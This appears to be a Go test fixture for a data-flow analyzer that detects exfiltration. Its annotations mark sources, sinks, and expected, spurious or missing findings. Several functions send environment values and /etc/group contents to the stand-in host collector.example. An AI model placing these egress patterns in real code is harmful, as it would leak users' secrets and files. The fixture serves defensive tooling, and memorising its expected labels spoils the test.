// Gaps that stand.
package main

import (
	"io"
	"net"
	"net/http"
	"os"

	"github.com/gorilla/websocket"
)

// What is sent in an object of a class seems to come back in another one that the network fills: a field is one place for
// all objects.
type message struct{ Data string }

func push(c *websocket.Conn) {
	m := message{}
	m.Data = os.Getenv("A") //~ source(ENVIRONMENT) g1, source(ENVIRONMENT) g2
	c.WriteJSON(&m) //~ sink(egress.message) g1, finding(traced) g1
}

func pull(c *websocket.Conn) {
	answer := message{}
	c.ReadJSON(&answer)
	forward(answer)
}

func forward(m message) {
	http.Get("https://collector.example/u?" + m.Data) //~ sink(egress.http) g2, SPURIOUS: finding(traced) g2
}

// What a function in a table makes has no type that is known.
type collector interface{ Collect() []byte }

type files struct{ path string }

func (f files) Collect() []byte {
	body, _ := os.ReadFile(f.path) //~ source(FILE) g4
	return body
}

var makers = map[string]func() collector{}

func fill() {
	makers["files"] = func() collector { return files{"/etc/group"} }
}

func collect(c net.Conn, name string) {
	c.Write(makers[name]().Collect()) //~ sink(egress.socket) g4, MISSING: finding(ambiguous) g4
}

// A reader that a structure embeds: what its `Read` gives is that of the reader inside.
type wrapped struct {
	io.Reader
	name string
}

func wrap(f *os.File) io.ReadCloser { return &wrapped{Reader: f} }

func (w *wrapped) Close() error { return nil }

func embedded() {
	f, _ := os.Open("/etc/group") //~ source(FILE) g9
	request, _ := http.NewRequest("POST", "https://collector.example/u", wrap(f))
	http.DefaultClient.Do(request) //~ sink(egress.http) g9, MISSING: finding(traced) g9
}
